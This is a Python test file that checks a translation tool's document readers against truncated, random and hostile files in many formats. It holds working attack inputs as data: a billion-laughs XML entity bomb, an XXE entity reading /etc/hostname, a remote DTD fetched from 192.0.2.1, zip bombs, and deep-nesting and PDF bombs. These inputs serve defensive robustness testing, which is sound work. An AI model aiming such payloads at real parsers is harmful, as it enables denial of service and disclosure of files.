"""Files that mean harm, or came to harm: whatever reader they meet, the answer is a document, or an error that names the file.

Each is read in a process that has little memory, and is ended if it takes too long; how long is not measured.
"""

from __future__ import annotations

import io
import json
import random
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

import docx
import pytest

from translator.documents.reading import READERS

MEMORY = 200 * 2**20  # bytes more than Python with the readers
SECONDS = 120
SAMPLES = Path(__file__).parent.parent / "data" / "documents"
DEEP = 100_000

PROGRAM = """
import json, resource, sys
from pathlib import Path
from translator.documents.reading import read_content
from translator.errors import DocumentError

size = Path("/proc/self/statm")
if size.exists():
    limit = int(size.read_text().split()[0]) * resource.getpagesize() + int(sys.argv[2])
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
for path in sorted(Path(sys.argv[1]).iterdir()):
    try:
        answer = f"{len(read_content(path.read_bytes(), path.name).blocks)} blocks"
    except DocumentError as error:
        answer = str(error)
    except BaseException as error:
        answer = f"failed with {type(error).__name__}: {error}"
    print(json.dumps([path.name, answer[:500]]), flush=True)
"""


def answers(contents: Mapping[str, bytes], folder: Path) -> dict[str, str]:
    """What comes of files with these names. Fails if any is neither a document nor an error that names it."""
    for name, content in contents.items():
        (folder / name).write_bytes(content)
    command = [sys.executable, "-c", PROGRAM, str(folder), str(MEMORY)]
    ended = subprocess.run(command, capture_output=True, text=True, timeout=SECONDS, check=False)
    found: dict[str, str] = dict(json.loads(line) for line in ended.stdout.splitlines())
    assert ended.returncode == 0, f"after {list(found)[-1:]}: {ended.stderr[-500:]}"
    assert found.keys() == contents.keys()
    wrong = {
        name: answer for name, answer in found.items() if not answer.endswith("blocks") and not answer.startswith(f"{name}: ")
    }
    assert not wrong
    return found


# --- Good files of every type ---------------------------------------------------------------------------------------------


def zipped(parts: Mapping[str, bytes], stored: str = "") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content, zipfile.ZIP_STORED if name == stored else None)
    return file.getvalue()


def word(body: bytes = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>", before: bytes = b"") -> bytes:
    """A Word file with this body, which python-docx has made but for it."""
    file = io.BytesIO()
    docx.Document().save(file)
    with zipfile.ZipFile(file) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    namespace = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts["word/document.xml"] = before + b'<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (namespace, body)
    return zipped(parts)


def opendocument(body: bytes = b"<text:p>x</text:p>", before: bytes = b"") -> bytes:
    names = b" ".join(
        b'xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (name, name) for name in (b"office", b"text", b"table")
    )
    content = b"<office:document-content %s><office:body><office:text>%s</office:text></office:body></office:document-content>"
    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": before + content % (names, body),
        "META-INF/manifest.xml": manifest,
    }
    return zipped(parts, stored="mimetype")


def xliff(body: bytes = b"<trans-unit id='1'><source>x</source></trans-unit>", before: bytes = b"") -> bytes:
    head = b'<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file source-language="hi"><body>'
    return before + head + body + b"</body></file></xliff>"


def tmx(segment: bytes = "बैठक".encode(), before: bytes = b"") -> bytes:
    unit = b'<tu><tuv xml:lang="hi"><seg>' + segment + b"</seg></tuv></tu>"
    return before + b'<tmx version="1.4"><header/><body>' + unit * 10 + b"</body></tmx>"


def html(body: bytes = "<p>बैठक</p>".encode(), before: bytes = b"") -> bytes:
    return before + b"<html><head><meta charset='utf-8'></head><body>" + body + b"</body></html>"


def mail(body: bytes = "बैठक हुई।".encode(), kind: bytes = b"text/plain; charset=utf-8") -> bytes:
    return b"From: a@example.org\nSubject: x\nContent-Type: " + kind + b"\n\n" + body


def rtf(body: bytes = b"x") -> bytes:
    return b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}" + body + b"\\par}"


LINES = "# बैठक\n\nदोनों पक्षों ने बैठक की।\n\n- पहला\n- दूसरा\n".encode()
CUES = "1\n00:00:01,000 --> 00:00:04,000\nबैठक हुई।\n\n2\n00:00:05,000 --> 00:00:06,000\nसब आए।\n".encode()
GOOD: dict[str, bytes] = {
    "": LINES,
    ".txt": LINES,
    ".text": LINES,
    ".md": LINES,
    ".markdown": LINES,
    ".html": html(),
    ".htm": html(),
    ".docx": word(),
    ".odt": opendocument(),
    ".rtf": rtf(),
    ".pdf": (SAMPLES / "chromium.pdf").read_bytes(),
    ".eml": mail(),
    ".srt": CUES,
    ".vtt": b"WEBVTT\n\n" + CUES.replace(b",", b"."),
    ".xlf": xliff(),
    ".xliff": xliff(),
    ".tmx": tmx(),
}


def test_every_reader_is_tried_here() -> None:
    assert READERS.keys() <= GOOD.keys()


def test_the_good_files_are_good(tmp_path: Path) -> None:
    found = answers({f"note{suffix}": content for suffix, content in GOOD.items() if suffix in READERS}, tmp_path)
    assert [answer for answer in found.values() if not answer.endswith("blocks") or answer.startswith("0")] == []


# --- What came to harm ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", READERS)
def test_files_that_end_too_early(suffix: str, tmp_path: Path) -> None:
    content = GOOD[suffix]
    answers({f"cut{tenth}{suffix}": content[: len(content) * tenth // 10] for tenth in range(10)}, tmp_path)


@pytest.mark.parametrize("suffix", READERS)
def test_files_of_another_type(suffix: str, tmp_path: Path) -> None:
    answers({f"from{other[1:]}{suffix}": content for other, content in GOOD.items() if other != suffix}, tmp_path)


@pytest.mark.parametrize("suffix", READERS)
def test_files_of_nothing_or_anything(suffix: str, tmp_path: Path) -> None:
    chance = random.Random(suffix)
    good = GOOD[suffix]
    changed = bytearray(good)
    for _ in range(20):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    contents = {
        "empty": b"",
        "blank": b" \n\n",
        "nul": b"\0" * 1000,
        "random": chance.randbytes(50_000),
        "after": good[: len(good) // 2] + chance.randbytes(1000),
        "changed": bytes(changed),
        "line": b"x" * 2_000_000,
        "lines": b"x\n" * 100_000,
        "mark": b"\xef\xbb\xbf",
        "half": b"\xff\xfe\x00",
    }
    answers({name + suffix: content for name, content in contents.items()}, tmp_path)


# --- What means harm ------------------------------------------------------------------------------------------------------

LAUGHS = b'<!DOCTYPE x [<!ENTITY a0 "ha">%s]>' % b"".join(
    b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 12)
)
SECRET = b'<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/hostname">]>'
REMOTE = (
    b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY %% p SYSTEM "http://192.0.2.1/p"> %%p;<!ENTITY a11 "b">]>'.replace(
        b"%%", b"%"
    )
)


def entities(before: bytes) -> dict[str, bytes]:
    return {
        ".docx": word(b"<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", before),
        ".odt": opendocument(b"<text:p>&a11;</text:p>", before),
        ".html": html(b"<p>&a11;</p>", before),
        ".xlf": xliff(b"<trans-unit id='1'><source>&a11;</source></trans-unit>", before),
        ".tmx": tmx(b"&a11;", before),
    }


def nested(begin: bytes, end: bytes, text: bytes = b"x") -> bytes:
    return begin * DEEP + text + end * DEEP


def multiparts(depth: int) -> bytes:
    content = b"x"
    begin = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (at, at) for at in range(depth))
    end = b"".join(b"\n--b%d--\n" % at for at in reversed(range(depth)))
    return b"Subject: x\n" + begin + b"\n" + content + end


def pdf(drawn: bytes, page: bytes = b"") -> bytes:
    packed = zlib.compress(drawn, 9)
    return (
        b"%%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R%s>>\nendobj\n"
        b"4 0 obj\n<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n"
        b"5 0 obj\n<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>\nendobj\n"
        b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n0\n%%%%EOF\n"
    ) % (page, len(packed), packed)


HOSTILE: dict[str, Callable[[], dict[str, bytes]]] = {
    "laughs": lambda: entities(LAUGHS),
    "secret": lambda: entities(SECRET),
    "remote": lambda: entities(REMOTE),
    "attribute": lambda: {
        ".xlf": LAUGHS + b"<xliff version='1.2' x='&a11;'/>",
        ".tmx": LAUGHS + b"<tmx x='&a11;'/>",
        ".html": html(b"<p title='&a11;'>x</p>", LAUGHS),
    },
    "zip-bomb": lambda: {
        ".docx": word(b"<w:p/>" * 50_000_000),
        ".odt": opendocument(b"<text:p/>" * 40_000_000),
    },
    "many-marks": lambda: {
        ".docx": word(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 300_000),
        ".odt": opendocument(b"<text:p>x</text:p>" * 500_000),
        ".html": html(b"<p>x" * 1_000_000),
        ".xlf": xliff(b"<trans-unit id='1'><source>x</source></trans-unit>" * 100_000),
        ".tmx": tmx(b"<hi>x</hi>" * 20_000),
        ".md": b"*a* " * 50_000,
        ".rtf": rtf(b"{\\b x}\\par " * 30_000),
        ".eml": mail(b"> x\n" * 50_000),
        ".srt": CUES * 5_000,
    },
    "spaces": lambda: {".odt": opendocument(b"<text:p><text:s text:c='2000000000'/>x</text:p>")},
    "columns": lambda: {
        ".odt": opendocument(
            b"<table:table><table:table-row table:number-rows-repeated='1000000'><table:table-cell "
            b"table:number-columns-repeated='1000000'><text:p>x</text:p></table:table-cell></table:table-row></table:table>"
        ),
        ".html": html(b"<table><tr><td colspan=1000000000 rowspan=1000000000>x</table>"),
    },
    "deep": lambda: {
        ".docx": word(nested(b"<w:sdt><w:sdtContent>", b"</w:sdtContent></w:sdt>")),
        ".odt": opendocument(nested(b"<text:list><text:list-item>", b"</text:list-item></text:list>")),
        ".html": html(nested(b"<div>", b"</div>")),
        ".htm": html(nested(b"<table><tr><td>", b"")),
        ".xlf": xliff(nested(b"<group>", b"</group>")),
        ".xliff": xliff(b"<trans-unit id='1'><source>" + nested(b"<g>", b"</g>") + b"</source></trans-unit>"),
        ".tmx": tmx(nested(b"<hi>", b"</hi>")),
        ".rtf": rtf(nested(b"{\\b ", b"}")),
        ".eml": multiparts(DEEP),
        ".md": nested(b"> ", b""),
        ".txt": nested(b"(", b")"),
        ".srt": CUES + nested(b"<i>", b"</i>"),
        ".pdf": pdf(nested(b"[", b"]")),
    },
    "deeper": lambda: {
        ".html": html(nested(b"<ul><li>", b"</li></ul>")),
        ".htm": html(nested(b"<b><i>", b"")),
        ".eml": b"Subject: x\nContent-Type: message/rfc822\n\n" * DEEP + b"x",
        ".md": nested(b"- ", b""),
        ".markdown": nested(b"[", b"]"),
        ".pdf": pdf(nested(b"<</a ", b">>"), b"/X " + nested(b"[", b"]")),
        ".rtf": rtf(nested(b"{", b"")),
        ".srt": CUES + nested(b"{\\", b""),
        ".vtt": b"WEBVTT\n\n" + CUES + nested(b"<", b""),
    },
    "marks": lambda: {
        ".md": b"*a_" * 20_000,
        ".markdown": b"![" * 20_000,
        ".txt": nested(b"1. ", b""),
        ".html": html(nested(b"<", b"")),
        ".eml": b"Subject: " + nested(b"=?utf-8?q?", b"") + b"\n\nx",
        ".pdf": pdf(b"q " * DEEP + b"BT /F1 9 Tf " + b"(x) Tj " * DEEP),
    },
    "pdf-bomb": lambda: {".pdf": pdf(b"0 0 1 1 re f\n" * 20_000_000)},
    "pdf-blank": lambda: {".pdf": pdf(b" " * 500_000_000)},
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_files_that_mean_harm(kind: str, tmp_path: Path) -> None:
    answers({kind + suffix: content for suffix, content in HOSTILE[kind]().items() if suffix in READERS}, tmp_path)


@pytest.mark.parametrize("kind", ["laughs", "secret", "remote"])
def test_no_entity_is_followed(kind: str, tmp_path: Path) -> None:
    found = answers({f"{kind}{suffix}": content for suffix, content in HOSTILE[kind]().items()}, tmp_path)
    assert [name for name, answer in found.items() if answer.endswith("blocks") and not name.endswith(".html")] == []
